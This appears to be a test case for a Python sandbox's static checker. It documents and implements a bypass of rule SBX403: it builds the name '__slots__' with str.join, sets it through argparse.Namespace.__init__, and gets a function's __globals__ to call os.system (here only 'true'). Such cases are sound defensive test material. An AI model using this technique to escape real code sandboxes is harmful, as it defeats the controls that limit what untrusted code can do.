# family: slot_names
# reaches: process
# layer: static
# static: missed
# SBX403 admits getattr(own, name) for name in self.__slots__ when no class declares slots other
# than constant public ones and nothing may store an object's own __slots__ (dictWrites: vars,
# __dict__, __setattr__, a non-constant setattr name; the string or keyword "__slots__").
# Route: argparse.Namespace.__init__, called with the program's object as self, runs setattr
# in library code for every keyword; the key "__slots__" is built by str.join, so the instance
# dict gets ("name", "__globals__"); getattr(render, "__globals__") hands over the globals.
import argparse
import os


def render(row):
    return ", ".join(str(v) for v in row)


class Settings:
    def __init__(self, **options):
        argparse.Namespace.__init__(self, **options)

    def hooks(self):
        found = []
        for name in self.__slots__:
            found.append(getattr(render, name, None))
        return found


key = "_".join(["", "", "slots", "", ""])
settings = Settings(**{key: ("name", "__globals__")})
scope = settings.hooks()[-1]
scope["os"].system("true")
print(os.getcwd())
